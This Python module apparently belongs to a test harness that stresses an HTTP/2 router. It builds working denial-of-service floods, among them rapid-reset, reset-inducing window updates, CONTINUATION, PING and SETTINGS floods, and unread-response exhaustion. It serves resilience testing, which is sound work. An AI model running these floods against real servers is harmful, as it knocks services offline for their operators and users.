"""Attacks that send much: the same frames again and again, as fast as the router takes them.

Each is repeated on a new connection until the scene is over, because who is thrown out comes back at once.
"""

from collections.abc import Callable
from functools import partial
from itertools import count

from agentring.http2 import frames
from agentring.http2.frames import Code, Setting
from harness.abuse import Attack, Outcome, Scene, finish, session_id
from harness.rawhttp2 import CONVERSE, RawConnection, frame, message, request_block

_END_S = 5.0
_BUSY_END_S = 40.0
"""For streams: ten thousands of them take a server a while where other processes have the processors, too."""
_MAX_FLOOD_BYTES = 64 << 20

Payload = Callable[[int], tuple[bytes, bytes]]
"""Of the size: what opens a connection after SETTINGS, and the flood itself."""


def flood(scene: Scene, payload: Payload, *, reads: bool = True, times: int = 0, end_s: float = _END_S) -> Outcome:
    """Sends it all on a connection, again and again. reads: between the pieces; times: how often at most, 0: any;
    end_s: how long the first connection's end is waited for."""
    first, all_frames = payload(scene.size)
    outcome = Outcome()
    scene.begin()
    for number in count(1):
        connection = RawConnection(scene.address)
        outcome.sent += scene.size
        connection.send(first)
        connection.flood(all_frames, reads=reads)
        finish(outcome, [connection], wait_s=end_s if number == 1 else 1.0)
        if scene.over.is_set() or number == times:
            break
    scene.hold()
    return outcome


def _opened(stream_id: int, block: bytes) -> bytes:
    return frames.headers(stream_id, block, end_stream=False)


def _resets(size: int) -> tuple[bytes, bytes]:
    block = request_block(CONVERSE, {"x-session-id": session_id()})
    ids = range(1, 2 * size, 2)
    return b"", b"".join([_opened(id_, block) + frames.rst_stream(id_, Code.CANCEL) for id_ in ids])


def _faults(size: int) -> tuple[bytes, bytes]:
    """The router itself is made to reset: a window that grows by 0 is a fault of the stream."""
    block = request_block(CONVERSE, {"x-session-id": session_id()})
    ids = range(1, 2 * size, 2)
    return b"", b"".join([_opened(id_, block) + frames.window_update(id_, 0) for id_ in ids])


def _opens(size: int) -> tuple[bytes, bytes]:
    """Nothing says where they are to go, and the message that would never comes."""
    block = request_block(CONVERSE)
    return b"", b"".join([_opened(id_, block) for id_ in range(1, 2 * size, 2)])


def _continuations(size: int, *, piece: bytes) -> tuple[bytes, bytes]:
    """(with large pieces no more of them than fill memory for nothing)"""
    times = min(size, _MAX_FLOOD_BYTES // (frames.HEADER_BYTES + len(piece)))
    return frame(frames.HEADERS, 0, 1, request_block(CONVERSE)), frame(frames.CONTINUATION, 0, 1, piece) * times


def _repeated(size: int, *, of: bytes, first: bytes = b"") -> tuple[bytes, bytes]:
    return first, of * size


def _settings(size: int) -> tuple[bytes, bytes]:
    return b"", b"".join(frames.settings({Setting.INITIAL_WINDOW_SIZE: 65_535 + i % 2}) for i in range(size))


def _unanswerable(size: int) -> tuple[bytes, bytes]:
    """Calls that the router itself answers, with an error of some hundred bytes."""
    block, empty = request_block("/no.such.Service/Method"), message(b"")
    return b"", b"".join([_opened(id_, block) + frames.data(id_, empty) for id_ in range(1, 2 * size, 2)])


def rapid_reset_in_limits(scene: Scene) -> Outcome:
    """As many streams as the size, but never more resets on one connection than it may have at once."""
    per_connection = min(1_000, scene.size)
    _, some = _resets(per_connection)
    outcome = Outcome()
    scene.begin()
    while outcome.sent < scene.size:
        connection = RawConnection(scene.address)
        connection.flood(some)
        outcome.sent += per_connection
        # Its answer says that all before it was read.
        connection.send(frames.ping(b"lastone!", ack=False))
        connection.wait(lambda: connection.kinds[frames.PING] > 0)  # noqa: B023  called here only
        finish(outcome, [connection])
    scene.hold()
    return outcome


def unread_answers(scene: Scene) -> Outcome:
    """Asks and asks, and reads no answer until all is over."""
    _, calls = _unanswerable(scene.size)
    connection = RawConnection(scene.address, receive_buffer_bytes=4096)
    outcome = Outcome(sent=scene.size)
    scene.begin()
    connection.flood(calls, reads=False)
    scene.hold()
    return finish(outcome, [connection], wait_s=1.0)


_OPEN_STREAM = frames.headers(1, request_block(CONVERSE), end_stream=False)
_PING = frames.ping(b"flooding", ack=False)

FLOODS: dict[str, Attack] = {
    "rapid-reset": partial(flood, payload=_resets, times=1, end_s=_BUSY_END_S),
    "rapid-reset-again": partial(flood, payload=_resets),
    "rapid-reset-in-limits": rapid_reset_in_limits,
    "made-you-reset": partial(flood, payload=_faults, times=1, end_s=_BUSY_END_S),
    "opens": partial(flood, payload=_opens),
    "continuations": partial(flood, payload=partial(_continuations, piece=bytes(16_384))),
    "empty-continuations": partial(flood, payload=partial(_continuations, piece=b"")),
    "pings": partial(flood, payload=partial(_repeated, of=_PING)),
    "unread-pings": partial(flood, payload=partial(_repeated, of=_PING), reads=False),
    "ping-acks": partial(flood, payload=partial(_repeated, of=frames.ping(b"unasked!", ack=True))),
    "settings": partial(flood, payload=_settings),
    "unread-settings": partial(flood, payload=_settings, reads=False),
    "empty-data": partial(flood, payload=partial(_repeated, of=frames.data(1, b""), first=_OPEN_STREAM)),
    "priorities": partial(flood, payload=partial(_repeated, of=frame(frames.PRIORITY, 0, 1, bytes(4) + b"\x10"))),
    "unknown-frames": partial(flood, payload=partial(_repeated, of=frame(0xBE, 0, 0, b""))),
    "window-updates": partial(flood, payload=partial(_repeated, of=frames.window_update(0, 1))),
    "stream-window-updates": partial(
        flood, payload=partial(_repeated, of=frames.window_update(1, 1), first=_OPEN_STREAM)
    ),
    "unread-answers": unread_answers,
}
